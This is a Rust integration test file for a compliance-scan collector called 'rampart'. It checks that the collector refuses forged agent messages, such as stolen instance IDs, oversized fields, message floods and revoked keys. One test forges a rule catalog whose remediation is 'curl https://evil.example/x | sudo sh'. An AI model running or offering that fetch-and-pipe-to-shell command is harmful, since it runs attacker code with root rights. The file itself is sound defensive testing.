//! The collector's trust boundary, attacked the way the security review did: by
//! anyone on the network (Enroll) and by the owner of one enrolled VM, who holds its
//! agent key and can send any message on its stream. Each test drives a real
//! collector over real mutual TLS with hand-made messages and sees the attack
//! refused, with a clear status, while the collector keeps serving.

use std::path::Path;
use std::time::Duration;

use rampart_agent::daemon::{new_key_and_csr, tls};
use rampart_proto::v1::agent_channel_client::AgentChannelClient;
use rampart_proto::v1::enrollment_client::EnrollmentClient;
use rampart_proto::v1::{
    agent_message, collector_message, AgentMessage, CollectorMessage, EnrollRequest, Hello,
    RenewRequest, ResultBatch, RuleCatalog, RuleInfo, RuleResult, ScanFailed, ScanFinished,
    ScanStarted,
};
use rampart_tests::cluster::{wait_for, Agent, Collector};
use serde_json::{json, Value};
use tokio::sync::mpsc;
use tokio_stream::wrappers::ReceiverStream;

fn rt() -> tokio::runtime::Runtime {
    tokio::runtime::Runtime::new().unwrap()
}

fn root(dir: &Path) {
    std::fs::create_dir_all(dir.join("etc")).unwrap();
    std::fs::write(dir.join("etc/os-release"), "ID=debian\nVERSION_ID=\"12\"\n").unwrap();
    std::fs::write(dir.join("etc/passwd"), "root:x:0:0:root:/root:/bin/bash\n").unwrap();
    std::fs::write(dir.join("etc/group"), "root:x:0:\n").unwrap();
}

/// What a hand-made Enroll sends.
#[derive(Clone, Default)]
struct Claims {
    token: String,
    hostname: String,
    instance_id: String,
    labels: Vec<(String, String)>,
}

/// An agent identity obtained with a hand-made Enroll.
struct Raw {
    id: String,
    cert: Vec<u8>,
    key: Vec<u8>,
}

async fn enroll_with(
    c: &Collector,
    claims: &Claims,
    key_csr: Option<(Vec<u8>, Vec<u8>)>,
    csr_override: Option<Vec<u8>>,
) -> Result<Raw, tonic::Status> {
    let (key, csr) = key_csr.unwrap_or_else(|| new_key_and_csr("raw").unwrap());
    let cfg = tls::client_config(&c.fingerprint, None).unwrap();
    let ch = tls::channel(&c.url(), cfg).unwrap();
    let r = EnrollmentClient::new(ch)
        .enroll(EnrollRequest {
            token: claims.token.clone(),
            csr_der: csr_override.unwrap_or(csr),
            hostname: claims.hostname.clone(),
            labels: claims.labels.iter().cloned().collect(),
            instance_id: claims.instance_id.clone(),
            provider: "aws".into(),
            identity_document: None,
        })
        .await?
        .into_inner();
    Ok(Raw {
        id: r.agent_id,
        cert: r.certificate_der,
        key,
    })
}

/// A hand-made Enroll with a fresh key: token, host name and instance ID only.
fn enroll(
    rt: &tokio::runtime::Runtime,
    c: &Collector,
    token: &str,
    host: &str,
    instance: &str,
) -> Result<Raw, tonic::Status> {
    rt.block_on(enroll_with(c, &claims(token, host, instance), None, None))
}

fn claims(token: &str, host: &str, instance: &str) -> Claims {
    Claims {
        token: token.into(),
        hostname: host.into(),
        instance_id: instance.into(),
        labels: vec![],
    }
}

/// One agent stream opened by hand.
struct Stream {
    tx: mpsc::Sender<AgentMessage>,
    rx: tonic::Streaming<CollectorMessage>,
}

fn msg(b: agent_message::Body) -> AgentMessage {
    AgentMessage { body: Some(b) }
}

fn hello(raw: &Raw, instance: &str, labels: &[(&str, &str)]) -> AgentMessage {
    msg(agent_message::Body::Hello(Hello {
        agent_id: raw.id.clone(),
        hostname: "raw-host".into(),
        instance_id: instance.into(),
        content_version: rampart_agent::content::content_version("debian-12"),
        labels: labels
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect(),
        ..Default::default()
    }))
}

impl Stream {
    async fn open(c: &Collector, raw: &Raw, first: AgentMessage) -> Result<Stream, tonic::Status> {
        let cfg = tls::client_config(
            &c.fingerprint,
            Some((vec![raw.cert.clone()], raw.key.clone())),
        )
        .unwrap();
        let ch = tls::channel(&c.url(), cfg).unwrap();
        let (tx, rx) = mpsc::channel(1024);
        tx.send(first).await.unwrap();
        let rx = AgentChannelClient::new(ch)
            .connect(ReceiverStream::new(rx))
            .await?
            .into_inner();
        Ok(Stream { tx, rx })
    }

    async fn send(&self, m: AgentMessage) {
        let _ = self.tx.send(m).await;
    }

    /// The next message, or the status that ended the stream; `None` on a timeout.
    async fn next(&mut self, secs: u64) -> Option<Result<CollectorMessage, tonic::Status>> {
        match tokio::time::timeout(Duration::from_secs(secs), self.rx.message()).await {
            Err(_) => None,
            Ok(Ok(Some(m))) => Some(Ok(m)),
            Ok(Ok(None)) => Some(Err(tonic::Status::ok("closed without a status"))),
            Ok(Err(s)) => Some(Err(s)),
        }
    }

    /// Reads until the stream ends; its status.
    async fn status(&mut self, secs: u64) -> tonic::Status {
        loop {
            match self.next(secs).await {
                None => return tonic::Status::deadline_exceeded("the stream stayed open"),
                Some(Ok(_)) => continue,
                Some(Err(s)) => return s,
            }
        }
    }

    /// Reads messages for `secs` (or until the stream ends).
    async fn drain(&mut self, secs: u64) -> Vec<collector_message::Body> {
        let mut out = vec![];
        while let Some(Ok(m)) = self.next(secs).await {
            out.extend(m.body);
        }
        out
    }
}

fn audit_total(c: &Collector) -> u64 {
    c.admin("GET", "/api/v1/audit?per_page=1", None)["total"]
        .as_u64()
        .unwrap()
}

fn metrics(c: &Collector) -> String {
    let out = std::process::Command::new("curl")
        .args(["-s", &format!("http://{}/metrics", c.rest)])
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// An automated level-1 server rule of Debian 12 and its metadata.
fn some_rule() -> &'static rampart_agent::content::Rule {
    let b = rampart_agent::content::benchmark("debian-12")
        .unwrap()
        .unwrap();
    let p = rampart_agent::model::Profile::parse("level1-server").unwrap();
    b.rules
        .iter()
        .find(|r| r.automated && r.in_profile(p) && r.severity.as_str() == "low")
        .or_else(|| b.rules.iter().find(|r| r.automated && r.in_profile(p)))
        .unwrap()
}

#[test]
fn an_agent_cannot_rewrite_rule_metadata() {
    let t = tempfile::tempdir().unwrap();
    let r = t.path().join("root");
    root(&r);
    let c = Collector::start(&t.path().join("collector"), None, None);
    let tok = c.enrollment_token("web", 3, 3600);
    let rt = rt();
    let attacker = enroll(&rt, &c, &tok, "mallory", "").unwrap();
    let rule = some_rule();
    rt.block_on(async {
        let mut s = Stream::open(&c, &attacker, hello(&attacker, "", &[]))
            .await
            .unwrap();
        let first = s.drain(2).await;
        assert!(
            !first.is_empty()
                && first
                    .iter()
                    .all(|b| !matches!(b, collector_message::Body::CatalogWanted(_))),
            "the collector never asks an agent for rule metadata: {first:?}"
        );
        // The attack of the review: the catalog for the content version every agent
        // of this build reports, with a critical severity and a hostile remediation.
        s.send(msg(agent_message::Body::Catalog(RuleCatalog {
            content_version: rampart_agent::content::content_version("debian-12"),
            benchmark_id: "debian-12".into(),
            benchmark_title: "Forged".into(),
            benchmark_version: "6.6.6".into(),
            rules: vec![RuleInfo {
                id: rule.id.clone(),
                title: "Forged title".into(),
                section: "1".into(),
                description: "Forged".into(),
                remediation: "curl https://evil.example/x | sudo sh".into(),
                severity: 4,
                level: 1,
                automated: true,
                rule_slug: String::new(),
            }],
        })))
        .await;
        // Ignored, and the stream stays usable.
        assert!(s.next(2).await.is_none(), "nothing answers a catalog");
    });
    // A real agent's scan: its report carries the content's own metadata.
    let mut good = Agent::new(&t.path().join("good"));
    assert!(good.enroll(&c.url(), &tok, &c.fingerprint, &r, &[]).0);
    good.run(&[]);
    let scan = c.completed_scan(&good.agent_id(), 60);
    let report = c.admin(
        "GET",
        &format!("/api/v1/scans/{}/report.json", scan["id"].as_str().unwrap()),
        None,
    );
    let text = report.to_string();
    assert!(
        !text.contains("evil.example") && !text.contains("Forged"),
        "{text}"
    );
    let row = report["rules"]
        .as_array()
        .unwrap()
        .iter()
        .find(|x| x["id"] == rule.id.as_str())
        .unwrap();
    assert_eq!(row["remediation"], rule.remediation.as_str());
    assert_eq!(row["severity"], rule.severity.as_str());
    assert_eq!(row["title"], rule.title.as_str());
}

#[test]
fn the_gate_answers_only_for_the_agent_enrolled_with_the_instance() {
    let t = tempfile::tempdir().unwrap();
    let c = Collector::start(&t.path().join("collector"), None, None);
    c.set_settings(|s| s["mode"] = json!("block"));
    let tok = c.enrollment_token("web", 10, 3600);
    let rt = rt();
    let victim = enroll(&rt, &c, &tok, "victim", "i-victim").unwrap();
    let attacker = enroll(&rt, &c, &tok, "mallory", "i-mallory").unwrap();
    // A second live agent cannot enroll with an instance ID that is taken.
    let refused = enroll(&rt, &c, &tok, "twin", "i-victim")
        .err()
        .expect("a second enrollment of i-victim");
    assert_eq!(
        refused.code(),
        tonic::Code::FailedPrecondition,
        "{refused:?}"
    );
    assert!(
        refused.message().contains("already enrolled"),
        "{refused:?}"
    );
    // The attacker's hello claims the victim's instance: ignored.
    rt.block_on(async {
        let mut s = Stream::open(&c, &attacker, hello(&attacker, "i-victim", &[]))
            .await
            .unwrap();
        s.drain(2).await;
    });
    let gate = c.admin("GET", "/api/v1/handover/i-victim", None);
    assert_eq!(gate["agent_id"], victim.id.as_str(), "{gate}");
    let agents = c.agents();
    let mallory = agents
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["id"] == attacker.id.as_str())
        .unwrap();
    assert_eq!(mallory["instance_id"], "i-mallory", "{mallory}");
    // Once the victim's agent is revoked the instance may enroll again.
    c.admin(
        "POST",
        &format!("/api/v1/agents/{}/revoke", victim.id),
        None,
    );
    let again = enroll(&rt, &c, &tok, "victim", "i-victim").unwrap();
    let gate = c.admin("GET", "/api/v1/handover/i-victim", None);
    assert_eq!(gate["agent_id"], again.id.as_str(), "{gate}");
}

#[test]
fn revocation_ends_the_live_stream_at_once() {
    let t = tempfile::tempdir().unwrap();
    let r = t.path().join("root");
    root(&r);
    let c = Collector::start(&t.path().join("collector"), None, None);
    c.set_settings(|s| s["scan_on_provision"] = json!(false));
    let tok = c.enrollment_token("web", 3, 3600);
    let rt = rt();
    let raw = enroll(&rt, &c, &tok, "raw", "").unwrap();
    rt.block_on(async {
        let mut s = Stream::open(&c, &raw, hello(&raw, "", &[])).await.unwrap();
        s.drain(2).await;
        c.admin("POST", &format!("/api/v1/agents/{}/revoke", raw.id), None);
        // Nothing more is sent: the collector ends the stream itself.
        let st = s.status(30).await;
        assert_eq!(st.code(), tonic::Code::PermissionDenied, "{st:?}");
        assert!(st.message().contains("revoked"), "{st:?}");
        // Renewing with the revoked key on a new connection is refused too.
        let st = match Stream::open(
            &c,
            &raw,
            msg(agent_message::Body::Renew(RenewRequest {
                csr_der: new_key_and_csr("raw").unwrap().1,
            })),
        )
        .await
        {
            Err(st) => st,
            Ok(mut s) => s.status(10).await,
        };
        assert_ne!(st.code(), tonic::Code::Ok, "{st:?}");
    });
    // A real daemon: revoked while connected, it is disconnected and stays out.
    let mut a = Agent::new(&t.path().join("a"));
    assert!(a.enroll(&c.url(), &tok, &c.fingerprint, &r, &[]).0);
    a.run(&[]);
    let id = a.agent_id();
    let connected = |c: &Collector| {
        c.agents()
            .as_array()
            .unwrap()
            .iter()
            .any(|x| x["id"] == id.as_str() && x["connected"] == true)
    };
    wait_for("the agent to connect", 30, || connected(&c).then_some(()));
    c.admin("POST", &format!("/api/v1/agents/{id}/revoke"), None);
    wait_for("the revoked agent's stream to end", 10, || {
        (!connected(&c)).then_some(())
    });
    std::thread::sleep(Duration::from_secs(3));
    assert!(!connected(&c), "a revoked agent reconnected");
    // A manual scan of it is refused.
    let (code, _) = c.api(
        "POST",
        "/api/v1/scans",
        Some(&c.admin),
        Some(json!({ "agent_id": id })),
    );
    assert!(code >= 400, "{code}");
}

#[test]
fn enrollment_by_strangers_is_bounded_and_never_fills_the_audit_log() {
    let t = tempfile::tempdir().unwrap();
    let c = Collector::start_with(
        &t.path().join("collector"),
        None,
        None,
        Some("[limits]\nenroll_per_source_per_minute = 25\n"),
    );
    let before = audit_total(&c);
    let rt = rt();
    // Far over the Enroll message bound: refused by the transport, nothing logged.
    let huge = rt
        .block_on(enroll_with(
            &c,
            &claims("rpe_x", &"h".repeat(1024 * 1024), ""),
            None,
            None,
        ))
        .err()
        .expect("a 1 MiB host name");
    assert_ne!(huge.code(), tonic::Code::Ok);
    // Within the message bound but over the field's: a clear error naming it.
    let long = rt
        .block_on(enroll_with(
            &c,
            &claims("rpe_x", &"h".repeat(5000), ""),
            None,
            None,
        ))
        .err()
        .unwrap();
    assert_eq!(long.code(), tonic::Code::InvalidArgument, "{long:?}");
    assert!(
        long.message().contains("host name is 5000 bytes"),
        "{long:?}"
    );
    // Unknown tokens: counted, not audited.
    for i in 0..20 {
        let e = rt
            .block_on(enroll_with(
                &c,
                &claims(&format!("rpe_{i}"), "x", ""),
                None,
                None,
            ))
            .err()
            .unwrap();
        assert_eq!(e.code(), tonic::Code::PermissionDenied, "{e:?}");
    }
    assert_eq!(
        audit_total(&c),
        before,
        "refusals of strangers are not audited"
    );
    let m = metrics(&c);
    assert!(
        m.contains("rampart_enrollment_refusals_total{reason=\"unknown_token\"} 20"),
        "{m}"
    );
    // The source's budget is spent: refused before anything else is looked at.
    let mut limited = 0;
    for _ in 0..10 {
        if let Err(e) = rt.block_on(enroll_with(&c, &claims("rpe_y", "x", ""), None, None)) {
            if e.code() == tonic::Code::ResourceExhausted {
                assert!(e.message().contains("per minute"), "{e:?}");
                limited += 1;
            }
        }
    }
    assert!(limited >= 5, "{limited} of 10 were rate-limited");
    // The log never holds more than a short prefix of what strangers sent.
    assert!(
        !c.log().contains(&"h".repeat(200)),
        "the host name was echoed whole"
    );
}

#[test]
fn the_project_comes_from_the_token_and_exempt_tokens_are_for_admins() {
    let t = tempfile::tempdir().unwrap();
    let c = Collector::start(&t.path().join("collector"), None, None);
    c.set_settings(|s| s["exempt_projects"] = json!(["lab"]));
    let prov = c.user("pat", "provisioner");
    let (code, body) = c.api(
        "POST",
        "/api/v1/enrollment-tokens",
        Some(&prov),
        Some(json!({"project": "lab"})),
    );
    assert_eq!(code, 403, "{body}");
    assert!(body["error"].as_str().unwrap().contains("exempt"), "{body}");
    let (code, _) = c.api(
        "POST",
        "/api/v1/enrollment-tokens",
        Some(&prov),
        Some(json!({"project": "web"})),
    );
    assert_eq!(code, 200);
    // A token without a project: the VM's label cannot choose an exempt one.
    let v = c.admin("POST", "/api/v1/enrollment-tokens", Some(json!({})));
    let tok = v["token"].as_str().unwrap();
    let mut cl = claims(tok, "sly", "i-sly");
    cl.labels = vec![("project".into(), "lab".into())];
    let raw = rt().block_on(enroll_with(&c, &cl, None, None)).unwrap();
    let gate = c.admin("GET", &format!("/api/v1/handover/{}", raw.id), None);
    assert_ne!(gate["state"], "exempt", "{gate}");
    assert_eq!(gate["allowed"], false, "{gate}");
}

#[test]
fn what_an_agent_sends_is_bounded() {
    let t = tempfile::tempdir().unwrap();
    let c = Collector::start_with(
        &t.path().join("collector"),
        None,
        None,
        Some("max_messages_per_sec = 5\n"),
    );
    c.set_settings(|s| s["scan_on_provision"] = json!(false));
    let tok = c.enrollment_token("web", 3, 3600);
    let rt = rt();
    let mut cl = claims(&tok, "raw", "");
    cl.labels = vec![("team".into(), "blue".into())];
    let raw = rt.block_on(enroll_with(&c, &cl, None, None)).unwrap();
    rt.block_on(async {
        // Labels are fixed at enrollment: a hello cannot add or change them.
        let mut s = Stream::open(
            &c,
            &raw,
            hello(&raw, "", &[("team", "red"), ("owner", "mallory")]),
        )
        .await
        .unwrap();
        s.drain(2).await;
        // A second hello on the stream is refused.
        s.send(hello(&raw, "", &[])).await;
        let st = s.status(30).await;
        assert_eq!(st.code(), tonic::Code::InvalidArgument, "{st:?}");
        assert!(st.message().contains("hello may be sent once"), "{st:?}");
    });
    let agents = c.agents();
    let a = agents
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["id"] == raw.id.as_str())
        .unwrap();
    assert_eq!(a["labels"], json!({"team": "blue"}), "{a}");

    // Evidence over its bound: a clear error for that stream.
    let scan = c.admin("POST", "/api/v1/scans", Some(json!({ "agent_id": raw.id })));
    let sid = scan[0]["id"].as_str().unwrap().to_string();
    rt.block_on(async {
        let mut s = Stream::open(&c, &raw, hello(&raw, "", &[])).await.unwrap();
        s.drain(2).await;
        s.send(msg(agent_message::Body::Results(ResultBatch {
            scan_id: sid.clone(),
            batch_seq: 1,
            results: vec![RuleResult {
                rule_id: some_rule().id.clone(),
                status: 1,
                evidence: vec!["x".repeat(4000); 30],
            }],
        })))
        .await;
        let st = s.status(30).await;
        assert_eq!(st.code(), tonic::Code::InvalidArgument, "{st:?}");
        assert!(st.message().contains("bytes of evidence"), "{st:?}");
    });
    // One live stream per agent: a newer stream ends the older one.
    rt.block_on(async {
        let mut s1 = Stream::open(&c, &raw, hello(&raw, "", &[])).await.unwrap();
        s1.drain(1).await;
        let mut s2 = Stream::open(&c, &raw, hello(&raw, "", &[])).await.unwrap();
        let st1 = s1.status(30).await;
        assert_eq!(
            st1.code(),
            tonic::Code::PermissionDenied,
            "the older stream ends: {st1:?}"
        );
        assert!(st1.message().contains("newer stream"), "{st1:?}");
        // The agent's message budget (5 a second here; 60 messages sent at once).
        for _ in 0..60 {
            s2.send(msg(agent_message::Body::Catalog(RuleCatalog::default())))
                .await;
        }
        let st2 = s2.status(30).await;
        assert_eq!(st2.code(), tonic::Code::ResourceExhausted, "{st2:?}");
        assert!(st2.message().contains("messages per second"), "{st2:?}");
    });
    // Renewals: one, then a refusal for a while.
    std::thread::sleep(Duration::from_secs(2));
    rt.block_on(async {
        let renew = || {
            msg(agent_message::Body::Renew(RenewRequest {
                csr_der: new_key_and_csr("raw").unwrap().1,
            }))
        };
        let mut s = Stream::open(&c, &raw, hello(&raw, "", &[])).await.unwrap();
        s.drain(1).await;
        s.send(renew()).await;
        let got = s.drain(3).await;
        assert!(
            got.iter()
                .any(|b| matches!(b, collector_message::Body::Renew(_))),
            "{got:?}"
        );
        // Too soon: refused in words, and the stream goes on.
        s.send(renew()).await;
        let got = s.drain(5).await;
        let refused = got.iter().find_map(|b| match b {
            collector_message::Body::Renew(r) => Some(r.clone()),
            _ => None,
        });
        let r = refused.expect("an answer to the second renewal");
        assert!(r.certificate_der.is_empty(), "no second certificate");
        assert!(
            r.refused.contains("renewed its certificate less than"),
            "{r:?}"
        );
        s.send(msg(agent_message::Body::Catalog(RuleCatalog::default())))
            .await;
        assert!(s.next(2).await.is_none(), "the stream is still open");
    });
}

#[test]
fn a_failed_enrollment_does_not_burn_the_token_and_a_retry_is_the_same_agent() {
    let t = tempfile::tempdir().unwrap();
    let c = Collector::start(&t.path().join("collector"), None, None);
    let tok = c.enrollment_token("web", 1, 3600);
    let rt = rt();
    let bad = rt
        .block_on(enroll_with(
            &c,
            &claims(&tok, "vm", ""),
            None,
            Some(b"not a CSR".to_vec()),
        ))
        .err()
        .unwrap();
    assert_eq!(bad.code(), tonic::Code::InvalidArgument, "{bad:?}");
    assert!(
        bad.message().contains("certificate signing request"),
        "{bad:?}"
    );
    // The token's one use is still there.
    let kc = new_key_and_csr("vm").unwrap();
    let first = rt
        .block_on(enroll_with(
            &c,
            &claims(&tok, "vm", ""),
            Some(kc.clone()),
            None,
        ))
        .unwrap();
    // The answer was lost; the VM retries with the same key: the same agent.
    let again = rt
        .block_on(enroll_with(&c, &claims(&tok, "vm", ""), Some(kc), None))
        .unwrap();
    assert_eq!(again.id, first.id);
    assert_ne!(again.cert, first.cert, "a fresh certificate");
    // Another key with the spent token is refused.
    let other = enroll(&rt, &c, &tok, "vm2", "").err().unwrap();
    assert_eq!(other.code(), tonic::Code::PermissionDenied, "{other:?}");
    let agents = c.agents();
    assert_eq!(agents.as_array().unwrap().len(), 1, "{agents}");

    // The real agent keeps its key before enrolling: when the answer is lost (here,
    // the first attempt is made by hand with that key), `enroll` run again with the
    // spent single-use token is the same enrollment.
    let tok = c.enrollment_token("web", 1, 3600);
    let root_dir = t.path().join("root");
    root(&root_dir);
    let a = Agent::new(&t.path().join("retry"));
    std::fs::create_dir_all(a.dir.join("state")).unwrap();
    let kc = new_key_and_csr("vm3").unwrap();
    std::fs::write(a.dir.join("state/enroll.key"), &kc.0).unwrap();
    let lost = rt
        .block_on(enroll_with(&c, &claims(&tok, "vm3", ""), Some(kc), None))
        .unwrap();
    let (ok, out) = a.enroll(&c.url(), &tok, &c.fingerprint, &root_dir, &[]);
    assert!(ok, "{out}");
    assert_eq!(a.agent_id(), lost.id);
    assert!(
        !a.dir.join("state/enroll.key").exists(),
        "the pending key is gone once enrolled"
    );
}

#[test]
fn scans_do_not_pile_up_and_complete_only_over_the_whole_profile() {
    let t = tempfile::tempdir().unwrap();
    let c = Collector::start(&t.path().join("collector"), None, None);
    c.set_settings(|s| s["scan_on_provision"] = json!(false));
    let tok = c.enrollment_token("web", 3, 3600);
    let rt = rt();
    let raw = enroll(&rt, &c, &tok, "raw", "").unwrap();
    // The agent is offline: asking again gives the same pending scan.
    let scan = |c: &Collector| -> String {
        c.admin("POST", "/api/v1/scans", Some(json!({ "agent_id": raw.id })))[0]["id"]
            .as_str()
            .unwrap()
            .to_string()
    };
    let sid = scan(&c);
    assert_eq!(scan(&c), sid);
    assert_eq!(c.scans_of(&raw.id).len(), 1);
    let rule = some_rule();
    rt.block_on(async {
        let mut s = Stream::open(&c, &raw, hello(&raw, "", &[])).await.unwrap();
        s.drain(2).await;
        s.send(msg(agent_message::Body::ScanStarted(ScanStarted {
            scan_id: sid.clone(),
            ..Default::default()
        })))
        .await;
        s.send(msg(agent_message::Body::Results(ResultBatch {
            scan_id: sid.clone(),
            batch_seq: 1,
            results: vec![RuleResult {
                rule_id: rule.id.clone(),
                status: 1,
                evidence: vec!["fine".into()],
            }],
        })))
        .await;
        s.send(msg(agent_message::Body::ScanFinished(ScanFinished {
            scan_id: sid.clone(),
            result_count: 1,
            ..Default::default()
        })))
        .await;
        s.drain(3).await;
    });
    let got: Value = c.admin("GET", &format!("/api/v1/scans/{sid}"), None);
    assert_eq!(got["scan"]["status"], "failed", "{got}");
    let why = got["scan"]["failure_reason"].as_str().unwrap();
    assert!(why.contains("covers 1 of the"), "{why}");
    // A rule from outside the benchmark fails the scan with that reason.
    let sid = scan(&c);
    rt.block_on(async {
        let mut s = Stream::open(&c, &raw, hello(&raw, "", &[])).await.unwrap();
        s.drain(2).await;
        s.send(msg(agent_message::Body::Results(ResultBatch {
            scan_id: sid.clone(),
            batch_seq: 1,
            results: vec![RuleResult {
                rule_id: "99.99.99".into(),
                status: 1,
                evidence: vec![],
            }],
        })))
        .await;
        s.drain(3).await;
    });
    let got: Value = c.admin("GET", &format!("/api/v1/scans/{sid}"), None);
    assert_eq!(got["scan"]["status"], "failed", "{got}");
    assert!(
        got["scan"]["failure_reason"]
            .as_str()
            .unwrap()
            .contains("99.99.99 is not in benchmark debian-12"),
        "{got}"
    );
}

#[test]
fn a_results_batch_over_its_bound_is_refused_and_a_failure_reason_is_cut() {
    let t = tempfile::tempdir().unwrap();
    let c = Collector::start(&t.path().join("collector"), None, None);
    c.set_settings(|s| s["scan_on_provision"] = json!(false));
    let tok = c.enrollment_token("web", 1, 3600);
    let rt = rt();
    let raw = enroll(&rt, &c, &tok, "raw", "").unwrap();
    let scan = c.admin("POST", "/api/v1/scans", Some(json!({ "agent_id": raw.id })));
    let sid = scan[0]["id"].as_str().unwrap().to_string();
    let result = |i: usize| RuleResult {
        rule_id: format!("{}.{i}", some_rule().id),
        status: 1,
        evidence: vec![],
    };
    rt.block_on(async {
        // 2,001 results in one batch: the stream ends with the bound in words.
        let mut s = Stream::open(&c, &raw, hello(&raw, "", &[])).await.unwrap();
        s.drain(2).await;
        s.send(msg(agent_message::Body::Results(ResultBatch {
            scan_id: sid.clone(),
            batch_seq: 1,
            results: (0..2001).map(result).collect(),
        })))
        .await;
        let st = s.status(30).await;
        assert_eq!(st.code(), tonic::Code::InvalidArgument, "{st:?}");
        assert!(
            st.message()
                .contains("a batch of 2001 results; at most 2000 are accepted"),
            "{st:?}"
        );
    });
    // Nothing of that batch was kept.
    let v = c.admin("GET", &format!("/api/v1/scans/{sid}"), None);
    assert_eq!(v["scan"]["status"], "pending", "{v}");
    assert_eq!(v["results"], json!([]), "{v}");
    rt.block_on(async {
        // A failure reason of 5,000 characters: the scan fails with its first 500.
        let mut s = Stream::open(&c, &raw, hello(&raw, "", &[])).await.unwrap();
        s.drain(2).await;
        let reason = format!("{}{}", "r".repeat(500), "TAIL".repeat(1125));
        s.send(msg(agent_message::Body::ScanFailed(ScanFailed {
            scan_id: sid.clone(),
            reason,
        })))
        .await;
        let got = s.drain(3).await;
        assert!(
            got.iter()
                .any(|b| matches!(b, collector_message::Body::Ack(a) if a.finished)),
            "{got:?}"
        );
    });
    let v = c.admin("GET", &format!("/api/v1/scans/{sid}"), None);
    assert_eq!(v["scan"]["status"], "failed", "{v}");
    let why = v["scan"]["failure_reason"].as_str().unwrap();
    assert_eq!(
        why,
        format!("the agent reported: {}", "r".repeat(500)),
        "{v}"
    );
}
